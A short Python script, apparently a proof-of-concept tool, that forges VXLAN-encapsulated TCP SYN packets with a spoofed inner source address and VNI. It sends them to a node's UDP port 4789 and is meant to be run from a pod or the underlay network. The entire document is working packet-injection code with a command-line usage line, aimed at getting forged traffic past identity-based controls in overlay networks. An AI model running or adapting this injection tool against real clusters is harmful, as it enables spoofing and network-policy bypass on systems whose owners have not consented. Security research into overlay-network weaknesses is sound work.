"""Send one VXLAN packet with a made-up identity in the VNI: the inner frame is a TCP SYN from
SRC to DST:PORT. Run from a pod or from the underlay: `python forge.py NODE_IP VNI SRC DST PORT`."""

from __future__ import annotations

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: str, dst: str, port: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )  # fmt: skip
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = b"\x02\x00\x00\x00\x00\x01" + b"\x02\x00\x00\x00\x00\x02" + b"\x08\x00"
    return eth + ip + tcp


def main() -> None:
    node_ip, vni, src, dst, port = sys.argv[1:6]
    vxlan = struct.pack("!II", 0x08000000, int(vni) << 8)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(3):
            s.sendto(vxlan + syn(src, dst, int(port)), (node_ip, 4789))


if __name__ == "__main__":
    main()
